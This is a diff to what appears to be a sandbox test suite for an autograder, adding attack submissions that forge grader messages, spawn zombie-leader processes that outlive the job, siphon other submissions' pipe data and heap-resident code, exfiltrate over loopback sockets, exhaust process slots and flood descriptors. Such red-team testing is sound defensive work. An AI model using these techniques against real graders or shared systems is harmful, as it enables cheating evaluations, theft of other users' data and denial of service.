@@ -7,10 +7,12 @@ would have to guess, given here so that each attack tries its best: ``@REPO@`` (
 repository, holding the reference solution and the hidden scenarios), ``@CANARY@`` (a world-writable
 file outside the job folder), ``@OUT@`` (the output folder), ``@RESULT@`` (the result file the grader
 is about to write), ``@FAKE_SITE@`` (a folder with a forbidden "autograd" that is really the
-reference solution), ``@PORT@`` (a TCP port the test listens on), ``@ID@`` (the attack's id).
+reference solution), ``@PORT@`` and ``@UDP@`` (TCP and UDP ports the test listens on, on
+127.0.0.1), ``@UNIX@`` (a pathname Unix socket the test listens on, in a folder anyone may reach),
+``@ABSTRACT@`` (an abstract Unix socket's name), ``@ID@`` (the attack's id).
 
-Attacks that only misbehave in one scenario check ``sys._getframe(1).f_code.co_name`` (the program
-that called them): a timeout costs 5 s, so they fire once, in the public ``d2l_detach_dz_dx``.
+Attacks that only misbehave in one scenario look for the program's frame among their callers (the
+program calls them directly, or through ``attempt`` and its lambdas): a timeout costs 5 s, so they fire once, in the public ``d2l_detach_dz_dx``.
 Attacks that would earn points if they worked (reading the solution, a forbidden import) install
 the reference engine when they succeed, so a hole shows up as a score, not just as a printout.
 """
@@ -32,7 +34,11 @@ _SLOTS = {
     "tape": '        raise NotImplementedError("Task 2: implement GradientTape._take_records_for_call")',
 }
 # Prefix of the attacks that fire in one scenario only (indented like the snippets it prefixes).
-ONCE = textwrap.indent('import sys\nif sys._getframe(1).f_code.co_name != "d2l_detach_dz_dx":\n'
+ONCE = textwrap.indent('import sys\n'
+                       '_caller = sys._getframe(1)\n'
+                       'while _caller is not None and _caller.f_code.co_name != "d2l_detach_dz_dx":\n'
+                       '    _caller = _caller.f_back\n'
+                       'if _caller is None:\n'
                        '    raise NotImplementedError("not here")\n', " " * 8)
 
 
@@ -419,7 +425,11 @@ SNOOPING = [
         _backward = Tensor.backward
 
         def _peeking_backward(self, *args, **kwargs):
-            if sys._getframe(1).f_code.co_name == "engine_d2l_control_flow":  # the last public one to run
+            callers, frame = set(), sys._getframe(1)
+            while frame is not None:
+                callers.add(frame.f_code.co_name)
+                frame = frame.f_back
+            if "engine_d2l_control_flow" in callers:  # the last public one to run
                 for fd in _KEPT:
                     flags = fcntl.fcntl(fd, fcntl.F_GETFL)
                     fcntl.fcntl(fd, fcntl.F_SETFL, flags | os.O_NONBLOCK)
@@ -616,6 +626,227 @@ ON_THE_GRADER = [
         """),
 ]
 
-ATTACKS = FORGING + LYING + CONTROL + RESOURCES + SNOOPING + ON_THE_GRADER
+# A process whose leader thread calls the raw exit system call (not exit_group) shows as a zombie
+# while its other threads run on: a grader that takes "Z" for dead never kills it. Shared by the
+# attacks that leave such strays behind, to reach the submissions graded after theirs.
+_ZOMBIE_LEADER = textwrap.indent("""\
+def _outlive(work, copies=1, session=True):
+    import ctypes, os, threading
+    exit_thread = {"x86_64": 60, "aarch64": 93}[os.uname().machine]   # SYS_exit, not exit_group
+    for _ in range(copies):
+        if os.fork() == 0:
+            if session:
+                os.setsid()
+            threading.Thread(target=work).start()
+            ctypes.CDLL(None).syscall(exit_thread, 0)
+""", " " * 8)
+
+# Forged frames on every descriptor: "tried to import torch" scores any submission 0.
+_FORGED_FORBIDDEN = textwrap.indent("""\
+import json, struct
+_FORBIDDEN = json.dumps({"kind": "forbidden", "module": "torch"}).encode()
+_FORBIDDEN = struct.pack(">I", len(_FORBIDDEN)) + _FORBIDDEN
+""", " " * 8)
+
+CONTAINERS = [
+    Attack("zombie_leader_strays", "containers", "import", _ZOMBIE_LEADER + _FORGED_FORBIDDEN + """
+        import ctypes, os, socket, time
+        def _haunt():
+            # Forge "forbidden" frames on every descriptor; copy (tee: without consuming it) whatever
+            # waits in any pipe it can read, the next submissions' jobs and programs included, into
+            # their output and to a loopback port.
+            libc = ctypes.CDLL(None, use_errno=True)
+            seen_r, seen_w = os.pipe()
+            os.set_blocking(seen_r, False)
+            while True:
+                for fd in range(3, 64):
+                    try:
+                        os.write(fd, _FORBIDDEN)
+                    except OSError:
+                        pass
+                    if fd not in (seen_r, seen_w) and libc.tee(fd, seen_w, 65536, 2) > 0:   # SPLICE_F_NONBLOCK
+                        try:
+                            stolen = os.read(seen_r, 65536)
+                        except OSError:
+                            continue
+                        for out in (1, 2):
+                            try:
+                                os.write(out, b"STOLEN-BY-@ID@ " + stolen[:200] + b"\\n")
+                            except OSError:
+                                pass
+                        try:
+                            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"EXFILTRATED " + stolen[:512],
+                                                                                   ("127.0.0.1", @UDP@))
+                        except OSError:
+                            pass
+                try:
+                    os.write(1, b"STRAY-OF-@ID@ ALIVE\\n")
+                except OSError:
+                    pass
+                time.sleep(0.01)
+        _outlive(_haunt, copies=4)
+        _outlive(_haunt, copies=2, session=False)
+        """),
+    Attack("nproc_hog", "containers", "import", _ZOMBIE_LEADER + """
+        import os, time
+        # Hold every process slot of the sandbox user, for good: the next submission (or the next
+        # grader) with the same user could not fork a single scenario.
+        def _sleep():
+            time.sleep(10**9)
+        try:
+            for _ in range(200):
+                _outlive(_sleep)
+                if os.fork() == 0:
+                    os.setsid()
+                    time.sleep(10**9)
+        except OSError as error:
+            print("process slots full:", error)
+        """),
+    Attack("heap_remnants", "containers", "import", _ADOPT + """
+        # The zygote is a fork: what its parent once held and freed may still be in its heap. Look
+        # for any submission's code (base64 of marshal data, as the grader sends it) and adopt it.
+        import binascii, builtins, ctypes, marshal, os, re, types
+        def _regions():
+            try:   # readable without Landlock
+                with open("/proc/self/maps") as maps:
+                    for line in maps:
+                        span, mode = line.split()[:2]
+                        start, end = (int(part, 16) for part in span.split("-"))
+                        if mode.startswith("rw") and end - start <= 32 << 20:
+                            yield start, end
+                return
+            except OSError:
+                pass
+            # Else the heap: from the program break down, page by page, as far as it is mapped.
+            libc = ctypes.CDLL(None, use_errno=True)
+            libc.sbrk.restype = ctypes.c_void_p
+            end = libc.sbrk(0) & ~4095
+            start, vector = end, ctypes.create_string_buffer(1)
+            while libc.mincore(ctypes.c_void_p(start - 4096), 4096, vector) == 0:   # ENOMEM: not mapped
+                start -= 4096
+            yield start, end
+        def _scan():
+            found = 0
+            for start, end in _regions():
+                try:
+                    memory = ctypes.string_at(start, end - start)
+                except Exception:
+                    continue
+                for run in re.finditer(rb"[A-Za-z0-9+/]{2000,}={0,2}", memory):
+                    text = run.group()
+                    for shift in range(4):
+                        usable = text[shift:]
+                        try:
+                            code = marshal.loads(binascii.a2b_base64(usable[: len(usable) // 4 * 4]))
+                        except Exception:
+                            continue
+                        if isinstance(code, types.CodeType):
+                            found += 1
+                            namespace = {"__name__": "stolen"}
+                            try:
+                                exec(code, namespace)
+                                namespace["Tensor"]([1.0]).detach()   # a stub raises NotImplementedError
+                            except BaseException:
+                                continue
+                            globals().update({k: v for k, v in namespace.items() if not k.startswith("__")})
+                            print("ADOPTED-@ID@")
+                            return found
+            return found
+        if not getattr(builtins, "_heap_scanning", False):
+            builtins._heap_scanning = True
+            print("code objects found in memory:", _scan())
+            builtins._heap_scanning = False
+        """),
+    Attack("sockets_everywhere", "containers", "import", """
+        import socket
+        tries = [("unix", socket.AF_UNIX, socket.SOCK_STREAM, "@UNIX@"),
+                 ("abstract", socket.AF_UNIX, socket.SOCK_STREAM, "\\0@ABSTRACT@"),
+                 ("tcp", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @PORT@)),
+                 ("udp", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @UDP@))]
+        for name, family, kind, address in tries:
+            try:
+                with socket.socket(family, kind) as connection:
+                    connection.settimeout(2)
+                    connection.connect(address)
+                    connection.sendall(b"EXFILTRATED-@ID@-" + name.encode())
+                    print("SENT over", name)
+            except OSError as error:
+                print("refused", name, type(error).__name__, error.errno)
+        try:
+            left, right = socket.socketpair()
+            print("socketpair made")
+        except OSError as error:
+            print("refused socketpair", type(error).__name__)
+        """),
+    Attack("flood_huge_forbidden", "containers", "import", """
+        import json, os, struct
+        body = json.dumps({"kind": "forbidden", "module": "torch" + "x" * 4_000_000}).encode()   # just under a frame's limit
+        frame = struct.pack(">I", len(body)) + body
+        for fd in range(3, 40):
+            try:
+                for _ in range(60):   # 240 MB per descriptor
+                    os.write(fd, frame)
+            except OSError:
+                pass
+        """),
+    Attack("flood_tiny_messages", "containers", "import", """
+        import json, os, struct
+        body = json.dumps({"kind": "forbidden", "module": "torch"}).encode()
+        flood = (struct.pack(">I", len(body)) + body) * 390_000
+        for fd in range(3, 40):
+            try:
+                os.write(fd, flood)
+            except OSError:
+                pass
+        """),
+    Attack("forged_huge_results", "containers", "detach", """
+        import json, os, struct, sys
+        # A result frame written by hand: nothing cuts its strings on the way out.
+        index = 0
+        for depth in range(1, 8):
+            frame = sys._getframe(depth)
+            if "item" in frame.f_locals and isinstance(frame.f_locals["item"], dict):
+                index = frame.f_locals["item"].get("index", 0)
+                break
+        record = {"__raised__": {"type": "RuntimeError", "message": "passed " * 550_000, "mro": ["RuntimeError"],
+                                 "traceback": "passed " * 550_000}}
+        body = json.dumps({"kind": "result", "index": index, "error": record}).encode()
+        for fd in range(3, 40):
+            try:
+                os.write(fd, struct.pack(">I", len(body)) + body)
+            except OSError:
+                pass
+        raise NotImplementedError("Task 1: implement Tensor.detach")
+        """),
+    Attack("lone_surrogates", "containers", "detach", """
+        import json, os, struct
+        body = b'{"kind":"forbidden","module":"torch\\\\ud800"}'
+        for fd in range(3, 40):
+            try:
+                os.write(fd, struct.pack(">I", len(body)) + body)
+            except OSError:
+                pass
+        os.write(1, "surrogate out: \\udcff\\n".encode("utf-8", "surrogatepass"))
+        raise RuntimeError("passed \\ud800 \\udfff")
+        """),
+    Attack("deep_folders", "containers", "import", """
+        import os
+        here = os.open(".", os.O_RDONLY)
+        for _ in range(3000):
+            os.mkdir("d", dir_fd=here)
+            deeper = os.open("d", os.O_RDONLY, dir_fd=here)
+            os.close(here)
+            here = deeper
+        for name, make in (("up", lambda: os.symlink("/", "up", dir_fd=here)),
+                           ("locked", lambda: os.mkdir("locked", 0, dir_fd=here))):
+            try:
+                make()
+            except OSError as error:
+                print("refused", name, type(error).__name__)
+        os.chmod(".", 0o500)   # the job folder itself: no more writes, not even by its owner
+        """),
+]
+
+ATTACKS = FORGING + LYING + CONTROL + RESOURCES + SNOOPING + ON_THE_GRADER + CONTAINERS
 BY_ID = {attack.id: attack for attack in ATTACKS}
 assert len(BY_ID) == len(ATTACKS)
